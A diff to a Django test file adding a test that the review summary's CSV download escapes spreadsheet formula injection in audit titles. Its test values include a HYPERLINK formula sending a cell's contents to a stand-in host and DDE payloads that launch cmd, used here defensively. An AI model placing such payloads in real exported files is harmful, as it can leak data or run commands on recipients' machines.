@@ -1,8 +1,12 @@
 """The review list, the summary page and its CSV download."""
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
+from reviews.models import Audit
 from tests.factories import ReviewFactory, build_review
 from tests.helpers import table_cells
 from tests.test_summary import SEED_TABLE
@@ -114,6 +118,25 @@ class TestSummaryCsv:
         assert (
             auditor_client.get(reverse("reviews:review-summary-csv", args=[999])).status_code == 404
         )
+
+    @pytest.mark.parametrize(
+        "title",
+        [
+            '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka")',
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ],
+    )
+    def test_a_title_a_spreadsheet_would_run_is_written_as_text(self, auditor_client, db, title):
+        review = build_review(audits=1, recommendations=1)
+        Audit.objects.filter(reviews=review).update(title=title)
+        response = auditor_client.get(reverse("reviews:review-summary-csv", args=[review.pk]))
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+        assert rows[1][0] == f"'{title} (2022)"
+        assert rows[1][1:] == ["1", "0", "0"]  # counts stay numbers
 
     def test_the_summary_page_links_to_it(self, auditor_client, seed_review):
         html = auditor_client.get(
